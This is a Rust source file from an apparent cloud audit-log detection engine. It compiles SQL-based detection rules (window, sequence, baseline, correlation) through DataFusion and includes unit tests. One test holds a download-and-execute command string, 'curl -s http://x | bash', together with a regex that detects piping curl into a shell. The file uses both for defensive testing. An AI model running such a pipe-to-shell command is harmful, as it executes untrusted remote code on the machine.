//! Where a rule is compiled: the `where` SQL goes through DataFusion's parser,
//! type coercion and physical planner exactly once, and the resulting
//! physical expression is evaluated on every batch. Window and sequence
//! and baseline blocks are compiled here too ([`crate::window`],
//! [`crate::sequence`], [`crate::baseline`]), and so is the rule's suppress
//! list ([`crate::suppress`]).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use arrow::array::{Array, BooleanArray, RecordBatch};
use datafusion::common::DFSchema;
use datafusion::logical_expr::simplify::SimplifyContext;
use datafusion::optimizer::simplify_expressions::ExprSimplifier;
use datafusion::physical_expr::PhysicalExpr;
use datafusion::prelude::SessionContext;
use trailhound_core::{Severity, rule_schema};

use crate::baseline::{CompiledBaseline, compile_baseline};
use crate::correlate::{CompiledCorrelate, compile_correlate};
use crate::error::RuleError;
use crate::rule::{RuleSpec, RuleTestSpec, parse_period_micros};
use crate::sequence::{CompiledSequence, compile_sequence};
use crate::suppress::Suppress;
use crate::template::Template;
use crate::window::{CompiledWindow, compile_window};

/// What kind of state a rule needs in the detector.
#[derive(Debug, Clone)]
pub enum Stateful {
    /// Every matching row is an alert candidate (dedup only).
    None,
    /// Rows are aggregated per group and window.
    Window(Box<CompiledWindow>),
    /// Rows advance ordered sequences per key.
    Sequence(Box<CompiledSequence>),
    /// Rows update and query a per-key baseline; departures alert.
    Baseline(Box<CompiledBaseline>),
    /// Rows of two sides are joined by a link value within a span.
    Correlate(Box<CompiledCorrelate>),
}

/// A rule ready to run: metadata plus the compiled predicate.
#[derive(Debug, Clone)]
pub struct CompiledRule {
    /// Unique id.
    pub id: String,
    /// One-line title.
    pub title: String,
    /// Plain-words description.
    pub description: String,
    /// How bad a match is.
    pub severity: Severity,
    /// ATT&CK and other tags.
    pub tags: Vec<String>,
    /// The file it came from; `None` for rules built into the binary.
    pub file: Option<PathBuf>,
    /// The `where` text, for listing and backtesting.
    pub sql: String,
    /// Dedup period in microseconds.
    pub dedup_period_micros: i64,
    /// Inline tests.
    pub tests: Vec<RuleTestSpec>,
    /// Suggested responses.
    pub respond: Vec<crate::rule::ResponseName>,
    /// The compiled window or sequence, if the rule has one.
    pub stateful: Stateful,
    /// The rule's own suppress list (empty when it has none).
    pub suppress: Suppress,
    /// A stable hash of what the rule's state depends on (`where`, the
    /// window, sequence or correlation block, dedup; baselines keep their
    /// own fingerprint). A checkpoint keeps a
    /// rule's state only while its fingerprint is unchanged.
    pub fingerprint: String,
    /// The `where`, planned against [`Self::predicate_columns`] only.
    predicate: Arc<dyn PhysicalExpr>,
    /// The columns of [`rule_schema`] the `where` reads, in schema order.
    predicate_columns: Vec<usize>,
    /// What the `where` requires of a row's prefilter columns
    /// ([`crate::prefilter`]): each column's index in [`rule_schema`] and
    /// the values one of which a matching row has there.
    required: Vec<(usize, BTreeSet<String>)>,
    evidence: Template,
    evidence_explicit: bool,
    dedup_key: Vec<usize>,
}

impl CompiledRule {
    /// Evaluates the predicate on a batch of [`rule_schema`] (the detector
    /// enriches every batch to it); a batch of the plain event schema is
    /// first widened with NULL grant columns. Rows where the predicate is
    /// NULL count as no match.
    pub fn evaluate(&self, batch: &RecordBatch) -> Result<BooleanArray, RuleError> {
        self.evaluate_projected(&self.project(batch)?)
    }

    /// The columns of `batch` the `where` reads ([`Self::predicate_columns`]),
    /// without copying them. A batch of the plain event schema is first
    /// widened with NULL grant columns.
    pub fn project(&self, batch: &RecordBatch) -> Result<RecordBatch, RuleError> {
        if batch.num_columns() < rule_schema().fields().len() {
            let wide = trailhound_core::grant::with_null_grant_columns(batch)
                .map_err(|e| self.eval_error(e.to_string()))?;
            return wide
                .project(&self.predicate_columns)
                .map_err(|e| self.eval_error(e.to_string()));
        }
        batch
            .project(&self.predicate_columns)
            .map_err(|e| self.eval_error(e.to_string()))
    }

    /// Evaluates the `where` on a batch made by [`Self::project`] (or a
    /// selection of its rows). Copying rows of a batch of only the columns a
    /// rule reads, here and inside DataFusion's `AND`, costs a fraction of
    /// copying the wide text columns (`request`, `extra`, ...) it does not.
    pub fn evaluate_projected(&self, projected: &RecordBatch) -> Result<BooleanArray, RuleError> {
        eval_bool(&self.predicate, projected).map_err(|e| self.eval_error(e))
    }

    /// The columns of [`rule_schema`] the `where` reads, in schema order.
    pub fn predicate_columns(&self) -> &[usize] {
        &self.predicate_columns
    }

    /// What a row must hold to match, when the `where` says: for some
    /// dictionary columns (`event_name`, `event_source`, `source`; each by
    /// its index in [`rule_schema`]), the values one of which it has there
    /// (`column = 'X'` or `IN (...)` in the `where`'s top conjunction). The
    /// engine skips the rule on batches without any of them.
    pub fn required(&self) -> &[(usize, BTreeSet<String>)] {
        &self.required
    }

    /// The compiled window, for window rules.
    pub fn window(&self) -> Option<&CompiledWindow> {
        match &self.stateful {
            Stateful::Window(w) => Some(w.as_ref()),
            _ => None,
        }
    }

    /// The compiled sequence, for sequence rules.
    pub fn sequence(&self) -> Option<&CompiledSequence> {
        match &self.stateful {
            Stateful::Sequence(s) => Some(s.as_ref()),
            _ => None,
        }
    }

    /// The compiled baseline, for baseline rules.
    pub fn baseline(&self) -> Option<&CompiledBaseline> {
        match &self.stateful {
            Stateful::Baseline(b) => Some(b.as_ref()),
            _ => None,
        }
    }

    /// The compiled correlation, for correlation rules.
    pub fn correlate(&self) -> Option<&CompiledCorrelate> {
        match &self.stateful {
            Stateful::Correlate(c) => Some(c.as_ref()),
            _ => None,
        }
    }

    /// True when the rule wrote its own `evidence` template.
    pub fn has_evidence_template(&self) -> bool {
        self.evidence_explicit
    }

    /// Wraps an evaluation failure of a part of this rule (a window's
    /// `having`, a sequence step) as an error naming the rule.
    pub fn eval_error(&self, reason: String) -> RuleError {
        RuleError::Evaluate {
            id: self.id.clone(),
            reason,
        }
    }

    /// The plain-words evidence for one matching row.
    pub fn evidence(&self, batch: &RecordBatch, row: usize) -> String {
        self.evidence.render(batch, row)
    }

    /// The columns (indexes in the event schema) of the dedup key.
    pub fn dedup_columns(&self) -> &[usize] {
        &self.dedup_key
    }

    /// The dedup key of one row: the values of the key columns, joined.
    pub fn dedup_key(&self, batch: &RecordBatch, row: usize) -> Vec<String> {
        self.dedup_key
            .iter()
            .map(|&c| match batch.columns().get(c) {
                Some(column) => crate::template::cell_text(column.as_ref(), row),
                None => "-".to_string(),
            })
            .collect()
    }
}

/// Evaluates a boolean physical expression on a batch; NULL becomes false.
pub(crate) fn eval_bool(
    expr: &Arc<dyn PhysicalExpr>,
    batch: &RecordBatch,
) -> Result<BooleanArray, String> {
    let value = expr.evaluate(batch).map_err(|e| e.to_string())?;
    let array = value
        .into_array(batch.num_rows())
        .map_err(|e| e.to_string())?;
    let bools = array
        .as_any()
        .downcast_ref::<BooleanArray>()
        .ok_or_else(|| format!("predicate gave {}", array.data_type()))?;
    Ok(if bools.null_count() == 0 {
        bools.clone()
    } else {
        // NULL means "unknown", which for a detection means "no".
        bools.iter().map(|v| Some(v == Some(true))).collect()
    })
}

/// Parses, coerces, simplifies and plans one SQL expression against `schema`.
pub(crate) fn plan_expr(
    ctx: &SessionContext,
    sql: &str,
    schema: &DFSchema,
) -> Result<Arc<dyn PhysicalExpr>, String> {
    let expr = ctx.parse_sql_expr(sql, schema).map_err(|e| e.to_string())?;
    plan_parsed(ctx, expr, schema)
}

/// A planned `where` and what it requires of the prefilter columns (each
/// column by its index in the schema it was planned against).
pub(crate) type PlannedWhere = (Arc<dyn PhysicalExpr>, Vec<(usize, BTreeSet<String>)>);

/// Plans a `where` (a rule's, or a sequence step's) and works out what it
/// requires of the prefilter columns (see [`crate::prefilter`]).
pub(crate) fn plan_where(
    ctx: &SessionContext,
    sql: &str,
    schema: &DFSchema,
) -> Result<PlannedWhere, String> {
    let expr = ctx.parse_sql_expr(sql, schema).map_err(|e| e.to_string())?;
    let required = crate::prefilter::required_values(&expr)
        .into_iter()
        .filter_map(|(column, values)| {
            Some((schema.index_of_column_by_name(None, column)?, values))
        })
        .collect();
    Ok((plan_parsed(ctx, expr, schema)?, required))
}

fn plan_parsed(
    ctx: &SessionContext,
    expr: datafusion::logical_expr::Expr,
    schema: &DFSchema,
) -> Result<Arc<dyn PhysicalExpr>, String> {
    // Coerce and simplify before planning: some functions (COALESCE,
    // NVL2, ...) exist only as rewrites and have no physical form.
    let simplifier = ExprSimplifier::new(
        SimplifyContext::builder()
            .with_schema(Arc::new(schema.clone()))
            .build(),
    );
    let expr = simplifier
        .coerce(expr, schema)
        .and_then(|e| simplifier.simplify(e))
        .and_then(crate::inlist::fold)
        .map_err(|e| e.to_string())?;
    ctx.create_physical_expr(expr, schema)
        .and_then(|e| crate::dict_eq::rewrite(e, schema.as_arrow()))
        .map_err(|e| e.to_string())
}

/// Compiles rule specs against the rule schema (the event columns and the
/// grant columns, [`trailhound_core::grant`]). Holds one DataFusion session
/// with the JSON functions registered; create it once and reuse it.
pub struct Compiler {
    ctx: SessionContext,
    schema: DFSchema,
}

impl std::fmt::Debug for Compiler {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Compiler").finish_non_exhaustive()
    }
}

impl Compiler {
    /// A compiler for the event schema.
    pub fn new() -> Result<Self, RuleError> {
        let mut ctx = SessionContext::new();
        datafusion_functions_json::register_all(&mut ctx).map_err(|e| RuleError::Engine {
            reason: e.to_string(),
        })?;
        crate::sigma::register(&mut ctx);
        crate::regex::register(&mut ctx);
        crate::starts_with::register(&mut ctx);
        let schema =
            DFSchema::try_from(rule_schema().as_ref().clone()).map_err(|e| RuleError::Engine {
                reason: e.to_string(),
            })?;
        Ok(Self { ctx, schema })
    }

    /// Compiles one rule. Errors name the rule, its file and the reason.
    pub fn compile(&self, spec: RuleSpec, file: Option<&Path>) -> Result<CompiledRule, RuleError> {
        let invalid = |reason: String| RuleError::Invalid {
            id: spec.id.clone(),
            file: file.map(Path::to_path_buf),
            reason,
        };
        if spec.id.trim().is_empty() {
            return Err(invalid("the id is empty".into()));
        }
        let dedup_period_micros = parse_period_micros(&spec.dedup.period).ok_or_else(|| {
            invalid(format!(
                "dedup period {:?} is not a positive number followed by s, m, h or d",
                spec.dedup.period
            ))
        })?;
        let arrow_schema = rule_schema();
        let mut dedup_key = Vec::with_capacity(spec.dedup.key.len());
        for name in &spec.dedup.key {
            let idx = arrow_schema.index_of(name).map_err(|_| {
                invalid(format!(
                    "dedup key column {name:?} is not in the event model"
                ))
            })?;
            dedup_key.push(idx);
        }
        let evidence_text = spec
            .evidence
            .clone()
            .unwrap_or_else(|| "{principal} called {event_name} from {source_ip}".to_string());
        let evidence = Template::parse(&evidence_text, &arrow_schema).map_err(invalid)?;

        let compile_err = |reason: String| RuleError::Compile {
            id: spec.id.clone(),
            file: file.map(Path::to_path_buf),
            reason,
        };
        let (predicate, required) =
            plan_where(&self.ctx, &spec.predicate, &self.schema).map_err(&compile_err)?;
        let data_type = predicate
            .data_type(&arrow_schema)
            .map_err(|e| compile_err(e.to_string()))?;
        if data_type != arrow::datatypes::DataType::Boolean {
            return Err(compile_err(format!(
                "`where` must be a boolean condition, but it gives {data_type}"
            )));
        }
        let fingerprint = trailhound_core::id::stable_id([
            spec.predicate.as_str(),
            &format!("{:?}", spec.window),
            &format!("{:?}", spec.sequence),
            // The baseline block is left out: the baseline store keeps its
            // own fingerprint of what the learnt state means, so tuning
            // `learning` or `factor` keeps what was learnt.
            &format!("{:?}", spec.correlate),
            &format!("{:?}", spec.dedup),
        ]);
        let stateful = match (
            &spec.window,
            &spec.sequence,
            &spec.baseline,
            &spec.correlate,
        ) {
            (Some(w), None, None, None) => Stateful::Window(Box::new(
                compile_window(&self.ctx, w).map_err(&compile_err)?,
            )),
            (None, Some(s), None, None) => Stateful::Sequence(Box::new(
                compile_sequence(&self.ctx, &self.schema, s).map_err(&compile_err)?,
            )),
            (None, None, Some(b), None) => Stateful::Baseline(Box::new(
                compile_baseline(&self.ctx, &self.schema, b).map_err(&compile_err)?,
            )),
            (None, None, None, Some(c)) => Stateful::Correlate(Box::new(
                compile_correlate(&self.ctx, &self.schema, c).map_err(&compile_err)?,
            )),
            (None, None, None, None) => Stateful::None,
            _ => {
                return Err(invalid(
                    "a rule has one of `window`, `sequence`, `baseline` or `correlate`, not several"
                        .into(),
                ));
            }
        };
        let suppress = match &spec.suppress {
            Some(s) => Suppress::from_spec(s).map_err(&invalid)?,
            None => Suppress::default(),
        };
        for t in &spec.tests {
            if t.alerts.is_some() && (t.events.is_empty() || t.event.is_some()) {
                return Err(invalid(format!(
                    "test {:?}: `alerts` goes with `events`",
                    t.name
                )));
            }
        }
        // The predicate reads only a few columns: plan it against those, so
        // that the rows a rule looks at are copied column by column for
        // those columns alone.
        let mut predicate_columns: Vec<usize> =
            datafusion::physical_expr::utils::collect_columns(&predicate)
                .iter()
                .map(|c| c.index())
                .collect();
        predicate_columns.sort_unstable();
        predicate_columns.dedup();
        let projected = arrow_schema
            .project(&predicate_columns)
            .map_err(|e| compile_err(e.to_string()))?;
        let predicate =
            datafusion::physical_expr::utils::reassign_expr_columns(predicate, &projected)
                .map_err(|e| compile_err(e.to_string()))?;
        Ok(CompiledRule {
            id: spec.id,
            title: spec.title,
            description: spec.description,
            severity: spec.severity.0,
            tags: spec.tags,
            file: file.map(Path::to_path_buf),
            sql: spec.predicate,
            dedup_period_micros,
            tests: spec.tests,
            respond: spec.respond,
            stateful,
            suppress,
            fingerprint,
            predicate,
            predicate_columns,
            required,
            evidence,
            evidence_explicit: spec.evidence.is_some(),
            dedup_key,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use trailhound_core::{Event, events_to_batch};

    fn spec(predicate: &str) -> RuleSpec {
        serde_yaml::from_str(&format!(
            "id: t\ntitle: T\nseverity: low\nwhere: |\n  {predicate}\n"
        ))
        .unwrap()
    }

    fn hits(predicate: &str, events: &[Event]) -> Vec<bool> {
        let rule = Compiler::new()
            .unwrap()
            .compile(spec(predicate), None)
            .unwrap();
        let batch = events_to_batch(events);
        rule.evaluate(&batch)
            .unwrap()
            .iter()
            .map(|v| v.unwrap_or(false))
            .collect()
    }

    fn ev(name: &str, request: Option<&str>, command: Option<&str>) -> Event {
        Event {
            event_name: name.into(),
            request: request.map(str::to_string),
            command: command.map(str::to_string),
            resources: vec!["arn:aws:s3:::vault".into()],
            ..Default::default()
        }
    }

    #[test]
    fn dictionary_columns_compare_to_literals() {
        let events = [
            ev("StopLogging", None, None),
            ev("DescribeTrails", None, None),
        ];
        assert_eq!(
            hits("event_name IN ('StopLogging', 'DeleteTrail')", &events),
            [true, false]
        );
        assert_eq!(
            hits("event_name = 'DescribeTrails'", &events),
            [false, true]
        );
    }

    #[test]
    fn json_functions_reach_into_request() {
        let events = [
            ev("CreateAccessKey", Some(r#"{"userName":"bob"}"#), None),
            ev("CreateAccessKey", None, None),
        ];
        assert_eq!(
            hits("json_get_str(request, 'userName') = 'bob'", &events),
            [true, false]
        );
    }

    #[test]
    fn regex_and_arrays_work() {
        let events = [
            ev("session.command", None, Some("curl -s http://x | bash")),
            ev("x", None, Some("ls")),
        ];
        assert_eq!(
            hits(r"regexp_like(command, 'curl .*\|\s*(ba)?sh')", &events),
            [true, false]
        );
        assert_eq!(
            hits("array_has(resources, 'arn:aws:s3:::vault')", &events),
            [true, true]
        );
    }

    #[test]
    fn coalesce_and_friends_are_planned() {
        let events = [ev("a", None, Some("ls")), ev("b", None, None)];
        assert_eq!(
            hits("COALESCE(command, 'none') = 'none'", &events),
            [false, true]
        );
        assert_eq!(hits("nvl2(command, 1, 0) = 1", &events), [true, false]);
    }

    #[test]
    fn null_is_no_match() {
        let events = [ev("a", None, None)];
        assert_eq!(hits("command = 'ls'", &events), [false]);
    }

    #[test]
    fn bad_rules_are_refused_with_id_and_reason() {
        let c = Compiler::new().unwrap();
        let e = c
            .compile(spec("no_such_column = 1"), Some(Path::new("x.yaml")))
            .unwrap_err()
            .to_string();
        assert!(e.contains("rule t (x.yaml) does not compile"), "{e}");
        assert!(e.contains("no_such_column"), "{e}");
        let e = c.compile(spec("event_name"), None).unwrap_err().to_string();
        assert!(e.contains("must be a boolean"), "{e}");
        let e = c
            .compile(spec("event_name = = 'x'"), None)
            .unwrap_err()
            .to_string();
        assert!(e.contains("does not compile"), "{e}");
    }

    fn stateful_error(extra: &str) -> String {
        let spec: RuleSpec = serde_yaml::from_str(&format!(
            "id: st\ntitle: T\nseverity: low\nwhere: \"event_name = 'x'\"\n{extra}"
        ))
        .unwrap();
        Compiler::new()
            .unwrap()
            .compile(spec, Some(Path::new("st.yaml")))
            .unwrap_err()
            .to_string()
    }

    const STEPS_OK: &str = "sequence:\n  by: [principal]\n  within: 10m\n  steps:\n    - {name: a, where: \"event_name = 'A'\"}\n    - {name: b, where: \"event_name = 'B'\"}\n";

    #[test]
    fn stateful_rules_are_refused_with_rule_id_and_reason() {
        let window = "window:\n  group_by: [principal]\n  size: 10m\n  having: \"count(*) > 1\"\n";
        let e = stateful_error(&format!("{window}{STEPS_OK}"));
        assert!(
            e.contains("rule st (st.yaml)") && e.contains("not several"),
            "{e}"
        );
        let e = stateful_error(
            "window:\n  group_by: [nope]\n  size: 10m\n  having: \"count(*) > 1\"\n",
        );
        assert!(
            e.contains("rule st") && e.contains("\"nope\" is not in the event model"),
            "{e}"
        );
        let e = stateful_error(
            "window:\n  group_by: [principal]\n  size: 10m\n  having: \"count(*) > 1 AND bucket = 'b'\"\n",
        );
        assert!(e.contains("outside an aggregate"), "{e}");
        let e = stateful_error(
            "sequence:\n  by: [principal]\n  within: 10m\n  steps:\n    - {name: a, where: \"event_name = 'A'\"}\n    - {name: gone, absent: \"event_name = 'C'\"}\n",
        );
        assert!(e.contains("at least 2 steps"), "{e}");
        let e = stateful_error(
            "sequence:\n  by: [principal]\n  within: 10m\n  steps:\n    - {name: a, where: \"event_name = 'A'\"}\n    - {name: gone, absent: \"event_name = 'C'\"}\n    - {name: b, where: \"event_name = 'B'\"}\n",
        );
        assert!(e.contains("must be the last step"), "{e}");
        let e = stateful_error(&STEPS_OK.replace("event_name = 'B'", "no_such = 'B'"));
        assert!(
            e.contains("rule st") && e.contains("step \"b\" does not compile"),
            "{e}"
        );
        let e = stateful_error(&format!(
            "{STEPS_OK}suppress:\n  source_networks: [\"10.0.0.0/99\"]\n"
        ));
        assert!(e.contains("rule st") && e.contains("prefix length"), "{e}");
    }

    #[test]
    fn baseline_blocks_compile_and_bad_ones_are_refused() {
        let ok = |extra: &str| {
            let spec: RuleSpec = serde_yaml::from_str(&format!(
                "id: b\ntitle: T\nseverity: low\nwhere: \"true\"\n{extra}"
            ))
            .unwrap();
            Compiler::new().unwrap().compile(spec, None)
        };
        let rule = ok("baseline:\n  kind: new_value\n  of: [event_source, event_name]\n").unwrap();
        let b = rule.baseline().unwrap();
        assert_eq!(b.kind, crate::baseline::BaselineKind::NewValue);
        assert_eq!(b.learning_micros, 7 * 86_400_000_000);
        assert_eq!(b.min_history, 50);
        assert_eq!(b.by.len(), 1);
        let rule =
            ok("baseline:\n  kind: new_value\n  of: network\n  learning: 2d\n  min_history: 5\n")
                .unwrap();
        assert!(matches!(
            rule.baseline().unwrap().of[0].1,
            crate::baseline::Part::Network(_)
        ));
        let rule = ok("baseline:\n  kind: new_value\n  of: \"lower(event_name)\"\n").unwrap();
        assert!(matches!(
            rule.baseline().unwrap().of[0].1,
            crate::baseline::Part::Expr(_)
        ));
        let rule = ok("baseline:\n  kind: unusual_hour\n  utc_offset: \"+02:00\"\n").unwrap();
        assert_eq!(rule.baseline().unwrap().utc_offset_minutes, 120);

        let err = |extra: &str| ok(extra).unwrap_err().to_string();
        assert!(err("baseline:\n  kind: new_value\n").contains("needs `of`"));
        assert!(err("baseline:\n  kind: new_value\n  of: nope_col\n").contains("nope_col"));
        assert!(
            err("baseline:\n  kind: new_value\n  of: region\n  learning: 7w\n")
                .contains("learning")
        );
        assert!(err("baseline:\n  kind: unusual_hour\n  of: region\n").contains("takes no `of`"));
        assert!(
            err("baseline:\n  kind: unusual_hour\n  utc_offset: mars\n").contains("utc_offset")
        );
        assert!(
            serde_yaml::from_str::<RuleSpec>(
                "id: b\ntitle: T\nseverity: low\nwhere: \"true\"\nbaseline:\n  kind: new_value\n  of: region\n  lerning: 1d\n"
            )
            .is_err()
        );
    }

    #[test]
    fn stateful_rules_compile() {
        let spec: RuleSpec = serde_yaml::from_str(&format!(
            "id: ok\ntitle: T\nseverity: low\nwhere: \"true\"\n{STEPS_OK}"
        ))
        .unwrap();
        let rule = Compiler::new().unwrap().compile(spec, None).unwrap();
        let seq = rule.sequence().unwrap();
        assert_eq!(seq.steps.len(), 2);
        assert_eq!(seq.within_micros, 600_000_000);
        assert!(rule.window().is_none());
    }
}
